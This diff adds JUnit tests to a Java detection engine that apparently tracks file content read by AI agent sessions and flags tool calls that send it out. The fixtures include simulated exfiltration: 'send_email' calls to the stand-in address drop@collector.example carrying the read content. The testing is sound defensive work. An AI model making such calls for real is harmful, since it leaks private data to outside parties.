@@ -5,10 +5,16 @@ import static org.assertj.core.api.Assertions.assertThat;
 import io.weir.engine.decide.Desk;
 import io.weir.engine.state.MemoryStateTable;
 import io.weir.schemas.event.AlertRaised;
-import io.weir.schemas.event.FleetPart;
+import io.weir.schemas.event.Declassification;
+import io.weir.schemas.event.Fingerprint;
+import io.weir.schemas.event.ResponseObserved;
+import io.weir.schemas.event.ToolCallScanned;
+import io.weir.schemas.word.Audience;
 import io.weir.schemas.word.Tier;
+import java.time.Duration;
 import java.util.List;
 import java.util.Map;
+import org.jspecify.annotations.Nullable;
 import org.junit.jupiter.api.Test;
 
 class FleetLaneTest {
@@ -93,6 +99,81 @@ class FleetLaneTest {
         }
 
         assertThat(sends(session("acme", "sender"), "drop@collector.example")).isEmpty();
+    }
+
+    @Test
+    void findsWhatAnyGroupHasReadAndWhatWasReadWhenThereWereFewer() {
+        lane.publish(session("acme", "before").reads("read_file", Map.of("content", MINUTES)));
+        lane.setGroups(8);
+        assertThat(sends(session("acme", "sender"), "drop@collector.example")).hasSize(1);
+        for (int i = 0; i < 6; i++) {
+            String text = MINUTES.replace("northern", "number " + i * 7919 + " northern");
+            FleetLane other = new FleetLane();
+            other.setGroups(8);
+            other.publish(session("acme", "reader" + i).reads("read_file", Map.of("content", text)));
+
+            ToolCallScanned call = session("acme", "sender")
+                    .calls("send_email", Map.of("to", "drop@collector.example", "subject", "hi", "body", text), REQUEST)
+                    .event();
+            assertThat(other.publish(call)).hasSize(1);
+        }
+    }
+
+    @Test
+    void aReadMakesAsManyRecordsWhateverTheNumberOfGroups() {
+        ResponseObserved event = session("acme", "reader").reads("read_file", Map.of("content", MINUTES));
+        SessionRead read = SessionRead.of(event, null);
+
+        List<FleetPart> one = FleetLayout.ONE_GROUP.ofRead(event, read, LossListener.NONE);
+        List<FleetPart> many = new FleetLayout(64).ofRead(event, read, LossListener.NONE);
+
+        assertThat(many).hasSameSizeAs(one);
+        assertThat(many).extracting(FleetPart::prints).isEqualTo(one.stream()
+                .map(FleetPart::prints)
+                .toList());
+    }
+
+    @Test
+    void saysNothingAboutWhatPeopleHaveLetGo() {
+        ResponseObserved read = session("acme", "reader").reads("read_file", Map.of("content", MINUTES));
+        lane.publish(read);
+        lane.say(letGo(read.fingerprint(), null, read.timeMillis()));
+
+        assertThat(sends(session("acme", "sender"), "drop@collector.example")).isEmpty();
+        assertThat(sends(session("acme", "sender"), "other@collector.example")).isEmpty();
+    }
+
+    @Test
+    void saysNothingAboutASourceThatPeopleHaveLetGo() {
+        ResponseObserved read = session("acme", "reader").reads("read_file", Map.of("content", MINUTES));
+        lane.publish(read);
+        lane.say(letGo(null, "another", read.timeMillis()));
+        assertThat(sends(session("acme", "sender"), "drop@collector.example")).hasSize(1);
+
+        lane.say(letGo(null, read.traceId(), read.timeMillis()));
+        assertThat(sends(session("acme", "sender"), "drop@collector.example")).isEmpty();
+        assertThat(lane.publish(session("acme", "sender")
+                        .calls("send_email", Map.of("to", "drop@collector.example", "body", MINUTES + " "), REQUEST)
+                        .event()))
+                .isEmpty();
+    }
+
+    private static Declassification letGo(@Nullable Fingerprint content, @Nullable String source, long timeMillis) {
+        long day = Duration.ofDays(1).toMillis();
+        return new Declassification(
+                "d-" + source,
+                "acme",
+                timeMillis,
+                "ana",
+                content,
+                source,
+                null,
+                null,
+                Audience.PUBLIC,
+                "a test",
+                timeMillis - day,
+                timeMillis + day,
+                false);
     }
 
     @Test
